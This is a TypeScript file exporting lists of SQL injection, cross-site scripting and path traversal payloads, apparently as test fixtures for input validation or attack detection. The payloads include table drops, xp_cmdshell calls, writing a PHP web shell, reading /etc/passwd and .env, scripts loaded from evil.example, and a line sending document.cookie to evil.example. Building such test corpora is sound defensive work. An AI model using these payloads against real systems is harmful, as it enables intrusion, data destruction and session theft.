/** SQL injections as scanners and attackers send them, one form each. */
export const SQL_INJECTIONS: readonly string[] = String.raw`
' OR '1'='1
' OR 1=1--
' OR 1=1#
' or 1=1/*
" OR "1"="1
" or ""="
' or ''='
' OR 'x'='x
') OR ('1'='1
')) or (('1'='1
admin'--
admin' --
admin' #
admin'/*
admin' or '1'='1
admin') or ('1'='1'--
1 OR 1=1
1 or 1=1--
1) or (1=1
-1 OR 2>1
1' or '1' = '1
1' AND 1=1--
1' AND 1=2--
1 AND 1=1
x' AND email IS NULL; --
x' AND userid IS NULL--
anything' OR 'x'='x
' or username like '%admin%
' or 1 in (1)--
' or true--
' or 1--
' union select null--
' UNION SELECT NULL,NULL,NULL--
' UNION ALL SELECT username, password FROM users--
1 UNION SELECT 1,2,3
1 UNION ALL SELECT NULL,concat(0x71,version()),NULL#
-1' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables--
" UNION SELECT * FROM users--
') UNION SELECT null,null--
1) UNION SELECT 1,2--
' UNION(SELECT 1,2)--
1' UNION SELECT @@version--
0 UNION SELECT table_name FROM information_schema.tables
UNION SELECT username, password FROM users--
UNION ALL SELECT 1,2,3
'; DROP TABLE users--
'; DROP TABLE users; --
1; DROP TABLE users
1; DELETE FROM sessions
1'; INSERT INTO users VALUES (1,'x')--
'; UPDATE users SET role='admin' WHERE id=1--
'; EXEC xp_cmdshell('dir')--
'; exec master..xp_cmdshell 'ping 10.0.0.1'--
'; SHUTDOWN--
'; TRUNCATE TABLE logs--
'; CREATE USER hacker WITH PASSWORD 'x'--
'; WAITFOR DELAY '0:0:5'--
1; WAITFOR DELAY '0:0:5'--
1); SELECT pg_sleep(5)--
'; SELECT pg_sleep(10)--
' AND SLEEP(5)--
' OR SLEEP(5)#
1 AND SLEEP(5)
1' AND SLEEP(5) AND '1'='1
1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)
' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x7e,version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--
' OR (SELECT COUNT(*) FROM users)>0--
' || (SELECT password FROM users LIMIT 1) || '
'||(SELECT version())||'
'+(SELECT @@version)+'
' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))--
' AND UPDATEXML(1,CONCAT(0x7e,(SELECT user())),1)--
' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--
' AND SUBSTRING(version(),1,1)='5
1 AND ASCII(SUBSTR(database(),1,1))>100
' AND 1=CONVERT(int,@@version)--
' OR 1=CAST((SELECT version()) AS int)--
' ORDER BY 1--
' ORDER BY 10#
1 ORDER BY 5--
1' ORDER BY 3--+
' GROUP BY 1 HAVING 1=1--
' HAVING 1=1--
1 HAVING 1=1
' LIMIT 1--
' INTO OUTFILE '/var/www/shell.php'--
' UNION SELECT '<?php system($_GET[0]); ?>' INTO OUTFILE '/tmp/x'--
' PROCEDURE ANALYSE()--
1 PROCEDURE ANALYSE(EXTRACTVALUE(1,1),1)
' AND LOAD_FILE('/etc/passwd') IS NOT NULL--
'/**/OR/**/1=1--
'/**/UNION/**/SELECT/**/1,2--
1/**/or/**/1=1
'/*!50000UNION*//*!50000SELECT*/1,2--
1'/*!UNION*/ /*!SELECT*/ 1,2,3--
' oR 1=1--
' uNiOn SeLeCt 1,2--
' || 1=1--
' && 1=1#
1 || 1=1
1 && 1=1
' OR NOT 1=2--
' or 1 like 1--
' or 2 between 1 and 3--
' or 'a' < 'b'--
' XOR 1=1--
'=0--+
(select(0)from(select(sleep(15)))v)
if(now()=sysdate(),sleep(15),0)
1 AND BENCHMARK(5000000,MD5(1))
' AND 1234=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--
\' OR 1=1--
\' union select 1--
1' and (select count(*) from pg_tables) > 0--
1 and exists(select * from users)
a' or 1=1 limit 1--
x'; COPY users TO '/tmp/out'--
1;DECLARE @x varchar(99);SET @x=0x41;EXEC(@x)
' or 3=3 #
' or (1)=(1)--
test' or 'ab'='a'+'b
1;select version()--
5' and sleep(3)='
') or sleep(5)='
" or sleep(5)#
1 or sleep(5)#
" and benchmark(10000000,MD5(1))#
hi' or 'a'='a
hi") or ("a"="a
' or 1=1 or ''='
x' or 1=1 or 'x'='y
'/**/and/**/substring(password,1,1)='a
' and 'x'='x' union select 1,2,3 from users where '1'='1
99999999 union select 1,2,database()
0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z
'; exec sp_configure 'show advanced options', 1--
';insert into log values('x');--
1' waitfor delay '0:0:10'--
(SELECT 4567 FROM PG_SLEEP(5))
' UNION SELECT sum(columnname) from tablename --
') union select * from information_schema.tables;
' or pg_sleep(5)--
1) and 1=1 and (2=2
' AnD 5=5 -- -
1%' and '%'='
-1 or 1=1 limit 1,1
1 and row(1,1)>(select count(*),concat(version(),0x3a) x from t group by x limit 1)
'; alter user admin with password 'x';--
`
  .split('\n')
  .filter((line) => line !== '');

/** Scripts as scanners and attackers send them, one form each. */
export const XSS: readonly string[] = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script src="https://evil.example/x.js">
<scr<script>ipt>alert(1)</script>
</script><script>alert(1)</script>
"><script>alert(document.cookie)</script>
'><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img src=x:alert(alt) onerror=eval(src) alt=0>
"><img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<IMG SRC="javascript:alert('XSS');">
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">X</text></a></svg>
<svg><set attributeName=href to=javascript:alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<input onfocus=alert(1) autofocus>
<input autofocus onfocus="alert(1)">
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>
<video><source onerror="alert(1)">
<video src=x onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<div onmouseover="alert(1)">x</div>
<div style="width:expression(alert(1))">
<div style="background:url(javascript:alert(1))">
<div/onclick='alert(1)'>x
<a href="javascript:alert(1)">x</a>
<a href='javascript:void(0)' onclick='alert(1)'>x</a>
<a href=" javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>">
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD4="></object>
<embed src="javascript:alert(1)">
<embed src="//evil.example/x.swf">
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<isindex action="javascript:alert(1)" type=image>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<base href="//evil.example/">
<link rel=stylesheet href="javascript:alert(1)">
<link rel="import" href="//evil.example/x.html">
<style>@import 'javascript:alert(1)';</style>
<style>li{-moz-binding:url("//evil.example/x.xml#xss")}</style>
<table background="javascript:alert(1)">
<math href="javascript:alert(1)">x</math>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<x onclick=alert(1)>x</x>
<custom-element onpointerenter=alert(1)>
javascript:alert(1)
javascript:alert(document.domain)
JaVaScRiPt:alert(1)
javascript://%0aalert(1)
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
[click](javascript:alert(1))
" onmouseover="alert(1)
' onmouseover='alert(1)
" onfocus=alert(1) autofocus="
x" onerror="alert(1)
" autofocus onfocus=alert(1) x="
';alert(1)//
";alert(1)//
'-alert(1)-'
"-alert(1)-"
'+alert(document.cookie)+'
\';alert(1)//
');alert(1);//
"});alert(1);//
{{constructor.constructor('alert(1)')()}}
{{$on.constructor('alert(1)')()}}
{{[].pop.constructor('alert(1)')()}}
eval(String.fromCharCode(97,108,101,114,116,40,49,41))
eval(atob('YWxlcnQoMSk='))
setTimeout(atob('YWxlcnQoMSk='))
window['alert'](1)
top["al"+"ert"](1)
self[/alert/.source](1)
onerror=alert(1)
onload=alert(1)
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<?xml-stylesheet href="javascript:alert(1)"?>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><img src=x onerror=alert(1)></title>
<p/onpointerover=prompt(1)>
<keygen autofocus onfocus=alert(1)>
<xss onafterscriptexecute=alert(1)><script>1</script>
<iframe onload=alert(1)>
<img src onerror=confirm(1)>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>
<button onclick="alert(1)">x</button>
<a onmouseenter=alert(1)>x
<object type="text/html" data="data:text/html,<script>alert(1)</script>">
<script/random>alert(1)</script>
<script>eval('al'+'ert(1)')</script>
"/><svg onload=alert(1)>
'"><img src=x onerror=alert(1)>
<input type="image" src="x" onerror="alert(1)">
<frameset onload=alert(1)>
<style onload=alert(1)></style>
<video poster=javascript:alert(1)//></video>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=javas&#99;ript:alert(1)>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<link rel=stylesheet href=//evil.example/x.css>
<div style="behavior:url(x.htc)">
<body background="javascript:alert(1)">
<img dynsrc="javascript:alert(1)">
" onclick=alert(1)//
'onmouseover='alert(1)
</textarea><script>alert(1)</script>
</title><svg/onload=confirm(1)>
\x3cscript\x3ealert(1)\x3c/script\x3e
\u003cimg src=x onerror=alert(1)\u003e
%3Csvg%20onload%3Dalert(1)%3E
{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}
${'$'}{alert(1)}
javascript:confirm(document.cookie)
';fetch('//evil.example?c='+document.cookie);//
"><a href="javascript:alert(1)">x
`
  .split('\n')
  .filter((line) => line !== '');

/** Paths and file names that leave their directory. */
export const TRAVERSALS: readonly string[] = String.raw`
../../etc/passwd
../../../../etc/shadow
..\..\windows\win.ini
/etc/passwd
....//....//etc/passwd
..;/..;/admin
php://filter/convert.base64-encode/resource=index
file:///etc/passwd
/proc/self/environ
images/../../../.env
`
  .split('\n')
  .filter((line) => line !== '');
